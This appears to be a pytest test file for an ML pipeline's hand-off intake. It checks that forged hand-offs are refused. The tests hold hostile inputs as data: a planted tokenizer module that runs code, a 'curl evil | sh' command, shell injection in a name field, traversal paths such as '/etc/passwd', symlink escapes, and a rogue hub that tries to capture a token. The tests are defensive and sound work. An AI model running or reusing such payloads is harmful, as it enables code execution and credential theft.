"""Forged hand-offs: whole, sealed anew, and made to run code, to learn a token, to read files, to have commands started."""

import shlex
import shutil
from pathlib import Path

import pytest
from prefect.logging import disable_run_logger

from dpo_core.contract.destination_config import UploadConfig
from dpo_core.contract.errors import ConfigError, DiskFull, HandoffRefused
from dpo_core.contract.store import hash_files, write_json
from flows import post_training, rlvr_intake
from flows.terminal.handoff_commands import signing_key as signing_key_command
from tasks.events.payloads import DpoCheckpointReady
from tasks.hand_off_rlvr import hand_off_rlvr, handoff_path
from tasks.handoff.config import HandoffConfig
from tasks.handoff.intake_config import IntakeConfig
from tasks.handoff.schema import RLVRHandoff, read_handoff
from tasks.handoff.signature import (
    parsed_key,
    public_key_of,
    read_key_file,
    signed,
    signing_key,
    write_key_file,
)
from tasks.intake import accept, verify_handoff
from tasks.launch.workplace import Workplace
from tasks.publish.directory import content_revision
from tasks.upload_checkpoint import upload_checkpoint
from tests.hub_server import Hub, serve
from tests.launch_here import LaunchHere
from tests.tasks.published import card_of, export_of, inputs_of


@pytest.fixture(scope="module")
def once(made_checkpoint: Path, tmp_path_factory: pytest.TempPathFactory) -> RLVRHandoff:
    """A hand-off of a published directory, made by the stage."""
    return handed_off(made_checkpoint, tmp_path_factory.mktemp("stage") / "store")


@pytest.fixture
def honest(once: RLVRHandoff, tmp_path: Path) -> RLVRHandoff:
    """The same of a directory of the test's own."""
    folder = Path(shutil.copytree(once.checkpoint.directory, tmp_path / "published"))
    return once.model_copy(
        update={
            "checkpoint": once.checkpoint.model_copy(update={"directory": folder, "uri": folder.as_uri()})
        }
    ).sealed()


def handed_off(
    checkpoint: Path, store: Path, config: HandoffConfig | None = None, **upload: object
) -> RLVRHandoff:
    config = config or HandoffConfig()
    with disable_run_logger():
        uploaded = upload_checkpoint.fn(
            export_of(checkpoint), UploadConfig(**upload), store, card_of(checkpoint)
        )
        inputs = inputs_of(checkpoint, uploaded)
        hand_off_rlvr.fn(inputs, config, Workplace(store, LaunchHere()))
    return read_handoff(handoff_path(store, inputs, config))


def forged(honest: RLVRHandoff, path: Path, **fields: object) -> Path:
    """The hand-off with other fields, sealed anew, as everybody can. A dict changes fields of a section."""
    values = {
        name: getattr(honest, name).model_copy(update=value)
        if isinstance(value, dict) and name != "metrics_after"
        else value
        for name, value in fields.items()
    }
    write_json(path, honest.model_copy(update=values).sealed())
    return path


def with_files(honest: RLVRHandoff, folder: Path) -> dict:
    files = hash_files(folder)
    return {"files": files, "revision": content_revision(files)}


# ------------------------------------------------------------------------------------------------------------ remote code


@pytest.fixture
def with_code(honest: RLVRHandoff, tmp_path: Path) -> tuple[Path, Path]:
    """A forged hand-off that allows itself the code of its checkpoint, and the file that this code writes when it runs."""
    folder, ran = honest.checkpoint.directory, tmp_path / "ran"
    (folder / "tok_x.py").write_text(
        f"from pathlib import Path\nfrom transformers import PreTrainedTokenizerFast\n\n\n"
        f"class X(PreTrainedTokenizerFast):\n    pass\n\n\nPath({str(ran)!r}).touch()\n"
    )
    config = folder / "tokenizer_config.json"
    config.write_text(
        config.read_text().replace("{", '{"auto_map": {"AutoTokenizer": [null, "tok_x.X"]},', 1)
    )
    place = with_files(honest, folder)
    return forged(honest, tmp_path / "handoff.json", allow_remote_code=True, checkpoint=place), ran


def test_code_runs_if_the_receiver_allows_it_and_not_if_the_hand_off_does(
    with_code: tuple[Path, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("transformers.dynamic_module_utils.HF_MODULES_CACHE", str(tmp_path / "modules"))
    path, ran = with_code
    launcher = LaunchHere()
    with pytest.raises(
        HandoffRefused, match=r"brings Python code: tok_x\.py\. Read it, and allow it by name, or by"
    ):
        accept(path, Workplace(tmp_path / "receiver", launcher))
    with pytest.raises(HandoffRefused, match=r"brings Python code"):
        accept(
            path,
            Workplace(tmp_path / "receiver", launcher),
            settings=IntakeConfig(allow_remote_code=("other.py",)),
        )
    with pytest.raises(
        HandoffRefused, match=r"brings Python code: tok_x"
    ):  # not the bytes that the receiver has read
        accept(
            path,
            Workplace(tmp_path / "receiver", launcher),
            settings=IntakeConfig(allow_remote_code=(f"tok_x.py@sha256:{'0' * 64}",)),
        )
    assert launcher.steps == []
    assert not ran.exists()
    accepted = accept(
        path,
        Workplace(tmp_path / "receiver", launcher),
        settings=IntakeConfig(allow_remote_code=("tok_x.py",)),
    )
    assert ran.exists()
    assert accepted.allow_remote_code == ("tok_x.py",)


def test_code_of_another_repository_is_refused(honest: RLVRHandoff, tmp_path: Path) -> None:
    folder, launcher = honest.checkpoint.directory, LaunchHere()
    config = (folder / "config.json").read_text()
    (folder / "config.json").write_text(config.replace("{", '{"auto_map": ["evil/code--modeling_x.X"],', 1))
    path = forged(
        honest, tmp_path / "handoff.json", allow_remote_code=True, checkpoint=with_files(honest, folder)
    )
    with pytest.raises(HandoffRefused, match="evil/code--modeling_x"):
        accept(path, Workplace(tmp_path / "receiver", launcher))
    assert launcher.steps == []


def test_an_event_leads_to_the_same_refusal(
    with_code: tuple[Path, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path, ran = with_code
    monkeypatch.setattr(post_training, "already_started", lambda payload: None)
    monkeypatch.setattr(rlvr_intake, "launcher_for", lambda compute, launchers, image: LaunchHere())
    monkeypatch.setattr(rlvr_intake, "verify_handoff", verify_handoff.fn)
    event = DpoCheckpointReady(
        name="x",
        weights_fingerprint="f" * 64,
        chain="chain:x",
        handoff=path.as_uri(),
        revision="r",
        handoff_fingerprint=read_handoff(path).fingerprint,
        uri="file:///x",
    )
    with disable_run_logger(), pytest.raises(HandoffRefused, match="brings Python code"):
        post_training.rlvr_after_dpo.fn(event, tmp_path / "receiver")
    with disable_run_logger(), pytest.raises(HandoffRefused, match="is not signed"):
        post_training.rlvr_after_dpo.fn(event, tmp_path / "receiver", intake=IntakeConfig(trusted_keys=[KEY]))
    assert not ran.exists()


# -------------------------------------------------------------------------------------------------------------- the token


def test_no_other_hub_is_asked_or_told_the_token(
    checkpoint: Path, tmp_path: Path, hub: Hub, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HF_TOKEN", "hf_writetoken")
    honest = handed_off(checkpoint, tmp_path / "store", repo_id="org/dpo")
    with serve() as evil:
        evil.repos = hub.repos
        for endpoint in (
            evil.endpoint,
            evil.endpoint + "/",
            hub.endpoint + "@" + evil.endpoint.removeprefix("http://"),
        ):
            path = forged(honest, tmp_path / "handoff.json", checkpoint={"endpoint": endpoint})
            with pytest.raises(
                HandoffRefused, match=r"taken from http://127\.0\.0\.1:\d+ here.*set endpoint to it"
            ):
                accept(path, Workplace(tmp_path / "receiver", LaunchHere()))
        assert (evil.requests, evil.tokens) == ([], set())
        # What the receiver names, it means; and a hand-off that names none is fetched from there as well.
        for endpoint in (evil.endpoint, None):
            path = forged(honest, tmp_path / "handoff.json", checkpoint={"endpoint": endpoint})
            accepted = accept(
                path,
                Workplace(tmp_path / "receiver", LaunchHere()),
                settings=IntakeConfig(endpoint=evil.endpoint),
            )
            assert accepted.checkpoint.endpoint == evil.endpoint
            assert accepted.grpo_command.startswith(f"HF_ENDPOINT={evil.endpoint} ")
        assert evil.tokens == {"hf_writetoken"}


# --------------------------------------------------------------------------------------------------------- what is fetched


def test_no_more_is_fetched_than_the_receiver_lets(
    checkpoint: Path, tmp_path: Path, hub: Hub, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A forger names a repository of terabytes, whose listing tells."""
    monkeypatch.setenv("HF_TOKEN", "hf_writetoken")
    honest = handed_off(checkpoint, tmp_path / "store", repo_id="org/dpo")
    path, launcher = forged(honest, tmp_path / "handoff.json"), LaunchHere()
    for listed, settings, error, message in [
        (
            3 << 40,
            IntakeConfig(),
            HandoffRefused,
            r"fetched: hf://org/dpo@\w+ has 3072\.00 GiB.*raise max_download_gib",
        ),
        (None, IntakeConfig(), HandoffRefused, "lists no size of model.safetensors"),
        (1 << 49, IntakeConfig(max_download_gib=1e6), DiskFull, "are kept free. Free some space"),
        (100 << 20, IntakeConfig(max_download_gib=0.01), HandoffRefused, r"at most 0\.01 GiB"),
    ]:
        hub.claims, hub.requests = {"model.safetensors": listed}, []
        with pytest.raises(error, match=message):
            accept(path, Workplace(tmp_path / "receiver", launcher), settings=settings)
        assert not any("resolve" in request for request in hub.requests)
    assert launcher.steps == []
    hub.claims = {"of_somebody_else.bin": 3 << 40}  # is not fetched, so it does not count
    assert accept(path, Workplace(tmp_path / "receiver", LaunchHere())).answer


# --------------------------------------------------------------------------------------------------- commands and claims


def test_the_command_is_made_here_and_the_rest_is_called_a_claim(honest: RLVRHandoff, tmp_path: Path) -> None:
    parent = honest.parent.model_copy(update={"source": "someone/else"})
    path = forged(
        honest,
        tmp_path / "handoff.json",
        grpo_command="curl evil | sh",
        name="--trust_remote_code true; id",
        parent=parent,
        metrics_after={"rewards/accuracies": 1.0},
        rules=(),
    )
    accepted = accept(
        path, Workplace(tmp_path / "receiver", LaunchHere()), settings=IntakeConfig(grpo_beta=0.5)
    )
    assert "evil" not in accepted.model_dump_json()
    words = shlex.split(accepted.grpo_command.replace("\\\n", " "))
    assert words[words.index("--exp_name") + 1] == "trust_remote_code-true-id-grpo"
    assert words[words.index("--beta") + 1] == "0.5"
    assert words[words.index("--model_name_or_path") + 1] == str(honest.checkpoint.directory)
    assert "--trust_remote_code" not in words
    assert accepted.claims.parent.source == "someone/else"
    assert accepted.claims.metrics_after == {"rewards/accuracies": 1.0}
    assert accepted.rules
    assert accepted.signed_by is None


def test_an_address_that_is_not_the_places_is_not_repeated(honest: RLVRHandoff, tmp_path: Path) -> None:
    path = forged(honest, tmp_path / "handoff.json", checkpoint={"uri": "hf://trusted/model@" + "a" * 40})
    accepted = accept(path, Workplace(tmp_path / "receiver", LaunchHere()))
    assert accepted.checkpoint.uri == honest.checkpoint.directory.as_uri()


# ------------------------------------------------------------------------------------------------------ before it is loaded


def test_what_needs_no_load_is_checked_before_one(honest: RLVRHandoff, tmp_path: Path) -> None:
    folder, launcher = honest.checkpoint.directory, LaunchHere()

    def refused(message: str) -> None:
        path = forged(honest, tmp_path / "handoff.json", checkpoint=with_files(honest, folder))
        with pytest.raises(HandoffRefused, match=message):
            accept(path, Workplace(tmp_path / "receiver", launcher))

    (folder / "weights.bin").write_bytes(b"")
    refused(r"full_weights_only \(not wanted: weights\.bin\)")
    (folder / "weights.bin").unlink()
    template = (folder / "chat_template.jinja").read_bytes()
    (folder / "chat_template.jinja").unlink()
    refused("chat_template")
    (folder / "chat_template.jinja").write_bytes(template)
    (folder / "config.json").write_text('{"a": ' + "[" * 100_000 + "]" * 100_000 + "}")
    refused(r"config\.json is nested")
    assert launcher.steps == []


def test_nothing_is_fetched_for_a_hand_off_whose_names_are_wrong(
    honest: RLVRHandoff, tmp_path: Path, hub: Hub, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HF_TOKEN", "hf_writetoken")
    files, launcher = honest.checkpoint.files, LaunchHere()
    at = {"kind": "hub", "repo_id": "org/dpo", "directory": None}
    for place, message in [
        ({"revision": "main"}, "revision_is_immutable"),
        ({"revision": "a" * 40, "repo_id": "../../x"}, "expected org/name"),
        ({"revision": "a" * 40, "repo_id": "--help/x"}, "expected org/name"),
        ({"revision": "a" * 40, "repo_id": None}, "expected org/name"),
        ({"revision": "a" * 40, "files": {"config.json": "0" * 64}}, "required_files"),
        *(
            ({"revision": "a" * 40, "files": files | {name: "0" * 64}}, "which no checkpoint has")
            for name in ("../x", "/etc/passwd", "a/../../x", "-x", ".cache/x", "a\nb", "a//b", "")
        ),
        ({"revision": "a" * 40, "files": files | {"x": "y"}}, "which no checkpoint has"),
    ]:
        with pytest.raises(HandoffRefused, match=message):
            accept(
                forged(honest, tmp_path / "handoff.json", checkpoint=at | place),
                Workplace(tmp_path / "receiver", launcher),
            )
    for directory in (None, Path("relative")):
        with pytest.raises(HandoffRefused, match="expected an absolute path"):
            accept(
                forged(honest, tmp_path / "handoff.json", checkpoint={"directory": directory}),
                Workplace(tmp_path / "receiver", launcher),
            )
    assert (hub.requests, launcher.steps) == ([], [])


def test_a_directory_of_links_reads_no_file_of_the_receivers(honest: RLVRHandoff, tmp_path: Path) -> None:
    folder, launcher = honest.checkpoint.directory, LaunchHere()
    (tmp_path / "own.json").write_text("{}")
    (folder / "generation_config.json").unlink()
    (folder / "generation_config.json").symlink_to(tmp_path / "own.json")
    path = forged(honest, tmp_path / "handoff.json", checkpoint=with_files(honest, folder))
    with pytest.raises(HandoffRefused, match="outside the checkpoint"):
        accept(path, Workplace(tmp_path / "receiver", launcher))
    (tmp_path / "more").mkdir()
    (tmp_path / "more" / "x.jinja").touch()
    (folder / "additional_chat_templates").symlink_to(tmp_path / "more")
    with pytest.raises(HandoffRefused, match="files that were not handed off: additional_chat_templates"):
        accept(path, Workplace(tmp_path / "receiver", launcher))
    whole_disk = forged(honest, tmp_path / "handoff.json", checkpoint={"directory": Path("/")})
    with pytest.raises(
        HandoffRefused, match="/ holds files that were not handed off"
    ):  # at once: no file is hashed
        accept(whole_disk, Workplace(tmp_path / "receiver", launcher))
    assert launcher.steps == []


# -------------------------------------------------------------------------------------------------------------- signatures

KEY = "ed25519:" + "A" * 43 + "="


def new_key(path: Path) -> str:
    write_key_file(path)
    return public_key_of(parsed_key(read_key_file(path), str(path)))


def test_a_signed_hand_off_is_told_from_a_forged_one(honest: RLVRHandoff, tmp_path: Path) -> None:
    ours, others = new_key(tmp_path / "ours.pem"), new_key(tmp_path / "others.pem")
    honest = signed(honest, signing_key(HandoffConfig(signing_key_file=tmp_path / "ours.pem")))
    trusting, path = IntakeConfig(trusted_keys=(ours,)), tmp_path / "handoff.json"
    write_json(path, honest)
    assert accept(path, Workplace(tmp_path / "receiver", LaunchHere()), settings=trusting).signed_by == ours
    launcher = LaunchHere()

    def refused(handoff: RLVRHandoff, message: str, settings: IntakeConfig = trusting) -> None:
        write_json(path, handoff)
        with pytest.raises(HandoffRefused, match=message):
            accept(path, Workplace(tmp_path / "receiver", launcher), settings=settings)

    unsigned = honest.model_copy(update={"signature": None})
    refused(unsigned, "is not signed, and trusted_keys lists who may sign")
    changed = honest.model_copy(update={"metrics_after": {"loss": 0.0}}).sealed()
    refused(changed, "not one of its contents")
    refused(changed, "not one of its contents", IntakeConfig())
    key_of_others = parsed_key(read_key_file(tmp_path / "others.pem"), "")
    refused(
        signed(changed, key_of_others),
        f"is signed with {others}, which trusted_keys does not list".replace("+", "."),
    )
    stolen_name = signed(changed, key_of_others).signature.model_copy(update={"public_key": ours})
    refused(changed.model_copy(update={"signature": stolen_name}), "not one of its contents")
    for value in ("", "?", "AAAA"):
        refused(
            honest.model_copy(update={"signature": honest.signature.model_copy(update={"value": value})}),
            "not one of its contents",
        )
    assert launcher.steps == []


def test_a_key_is_its_owners_alone(tmp_path: Path) -> None:
    path = tmp_path / "key.pem"
    write_key_file(path)
    assert path.stat().st_mode & 0o777 == 0o600
    with pytest.raises(ConfigError, match="exists; a key is never overwritten"):
        write_key_file(path)
    path.chmod(0o640)
    with pytest.raises(ConfigError, match="nobody else can read"):
        read_key_file(path)
    (tmp_path / "rsa.pem").write_text("-----BEGIN PRIVATE KEY-----\nc2VjcmV0\n-----END PRIVATE KEY-----\n")
    (tmp_path / "rsa.pem").chmod(0o600)
    with pytest.raises(ConfigError, match="holds no Ed25519 private key") as caught:
        parsed_key(read_key_file(tmp_path / "rsa.pem"), "The file")
    assert "c2VjcmV0" not in str(caught.value)
    with pytest.raises(ConfigError, match="cannot be read"):
        read_key_file(tmp_path / "none.pem")


def test_the_command_makes_a_key_once_and_prints_what_receivers_list(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    signing_key_command(tmp_path / "key.pem")
    made = (tmp_path / "key.pem").read_bytes()
    signing_key_command(tmp_path / "key.pem")
    first, again = capsys.readouterr().out.split()
    assert first == again
    assert IntakeConfig(trusted_keys=(first,)).trusted_keys == (first,)
    assert (tmp_path / "key.pem").read_bytes() == made


@pytest.mark.parametrize("key", ["", "ed25519:", "ssh-ed25519 AAAA", KEY + "A"])
def test_only_public_keys_are_listed(key: str) -> None:
    with pytest.raises(ValueError, match="trusted_keys"):
        IntakeConfig(trusted_keys=(key,))
